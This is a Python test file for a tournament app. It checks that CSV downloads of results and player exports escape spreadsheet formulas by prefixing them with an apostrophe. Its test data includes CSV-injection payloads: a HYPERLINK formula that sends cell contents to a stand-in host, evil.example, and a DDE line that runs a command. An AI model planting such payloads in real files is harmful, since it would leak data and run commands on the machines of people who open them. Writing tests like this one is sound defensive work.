"""Every CSV download (the EMA results, the players' export) writes a player named like a formula as text."""

from __future__ import annotations

import csv
import io

from tournament.extensions import db
from tournament.services import draws as draw_service
from tournament.services import lifecycle, play, scoring
from tournament.services import registration as reg
from tournament.services.registration import PlayerData

FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)"]


def _risky(cells: list[str]) -> list[str]:
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_every_csv_download_neutralises_formulas(organiser_client, tournament, app_ctx):
    tournament.session_count = 1
    for i in range(8):
        reg.check_in(reg.add_player(tournament, PlayerData(
            first_name=FORMULAS[i % 4], last_name=f"-Last{i}", country="FI", ema_number=f"0400{i:04d}")))
    draw_service.draw_next(tournament, seed=3)
    lifecycle.start_session(tournament, 1)
    session = play.get_session(tournament, 1)
    for table, scores in ((1, [30, 10, -15, -25]), (2, [40, -5, -5, -30])):
        seated = [sp.player_id for sp in play.table_players(session, table)]
        scoring.enter_totals(tournament, 1, table, dict(zip(seated, scores, strict=True)), None)
    lifecycle.finish_session(tournament, 1)
    db.session.commit()
    base = f"/manage/tournaments/{tournament.id}"
    for path in (f"{base}/exports/ema-results.csv", f"{base}/players/export.csv"):
        response = organiser_client.get(path)
        assert response.status_code == 200, path
        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))[1:]
        assert len(rows) == 8, path
        text_cells = [c for row in rows for c in row if not c.lstrip("-").replace(".", "").isdigit()]
        assert {"'" + f for f in FORMULAS} <= set(text_cells) and not _risky(text_cells), path
        assert "'-Last0" in text_cells, path
    ema_rows = list(csv.reader(io.StringIO(organiser_client.get(f"{base}/exports/ema-results.csv")
                                           .get_data(as_text=True))))[1:]
    assert {"-15", "-25", "-30", "-5"} <= {row[5] for row in ema_rows}  # scores: numbers, unprefixed
